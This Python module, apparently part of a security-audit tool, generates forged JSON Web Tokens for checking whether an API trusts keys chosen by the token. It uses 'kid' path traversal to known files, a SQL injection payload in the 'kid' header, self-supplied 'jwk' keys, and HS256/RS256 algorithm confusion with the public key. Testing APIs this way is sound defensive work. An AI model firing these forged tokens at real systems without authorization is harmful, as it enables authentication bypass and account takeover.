"""Forges tokens that choose their own key: by a path, by an injection, by bringing one along, or by confusing two kinds."""

from collections.abc import Iterator

import anyio.to_thread
from cryptography.hazmat.primitives.asymmetric import ec, rsa

from launchready.declare.model import Json
from launchready.observe.auth.jwt import HASHES, Jwt, encode, number, signed_by_curve, signed_by_rsa, signed_with
from launchready.observe.auth.published_keys import Published

UP = "../" * 8
OF_FILES = (("dev/null", b""), ("proc/sys/kernel/ostype", b"Linux\n"))
"""Files whose content everybody knows."""
CHOSEN = "chosen-by-the-token"
OWN_SECRET = b"a key of 32 bytes for this audit"
RSA_BITS = 2048


def by_key_id(jwt: Jwt) -> Iterator[tuple[str, str]]:
    """Tokens whose `kid` names a file that everybody knows, or has the database answer with a key of ours."""
    algorithm = jwt.algorithm if jwt.algorithm in HASHES else "HS256"

    def made(kid: str, key: bytes) -> str:
        return signed_with(jwt, key, algorithm=algorithm, header={"kid": kid})

    for path, content in OF_FILES:
        for kid in (f"/{path}", f"{UP}{path}"):
            yield f"whose kid is {kid}", made(kid, content)
    for quote in ("'", '"'):
        kid = f"none{quote} UNION SELECT {quote}{CHOSEN}{quote} -- "
        yield f"whose kid is {kid.strip()}", made(kid, CHOSEN.encode())


async def by_own_key(jwt: Jwt) -> tuple[tuple[str, str], ...]:
    """Tokens that bring their key along in the header, of the kinds that the API may take."""
    curve = ec.generate_private_key(ec.SECP256R1())
    found = [("that brings its own key along (ES256)", signed_by_curve(jwt, curve, {"jwk": _of_curve(curve)}))]
    if jwt.algorithm in HASHES:
        brought: Json = {"kty": "oct", "k": encode(OWN_SECRET)}
        found.append(("that brings its own key along", signed_with(jwt, OWN_SECRET, header={"jwk": brought})))
    else:
        own = await anyio.to_thread.run_sync(rsa.generate_private_key, 65537, RSA_BITS)
        numbers = own.public_key().public_numbers()
        jwk: Json = {"kty": "RSA", "n": number(numbers.n), "e": number(numbers.e)}
        found.append(("that brings its own key along (RS256)", signed_by_rsa(jwt, own, {"jwk": jwk})))
    return tuple(found)


def by_public_key(jwt: Jwt, keys: Published | None) -> Iterator[tuple[str, str]]:
    """Tokens signed with the text of a public key, as if that were a secret."""
    for one in keys.keys if keys else ():
        kid: dict[str, Json] = {"kid": one.kid} if one.kid else {}
        for form, text in one.forms:
            token = signed_with(jwt, text.encode(), algorithm="HS256", header=kid)
            yield f"signed by HS256 with the public key ({form})", token


def _of_curve(key: ec.EllipticCurvePrivateKey) -> Json:
    numbers = key.public_key().public_numbers()
    x, y = (encode(value.to_bytes(32, "big")) for value in (numbers.x, numbers.y))
    return {"kty": "EC", "crv": "P-256", "x": x, "y": y}
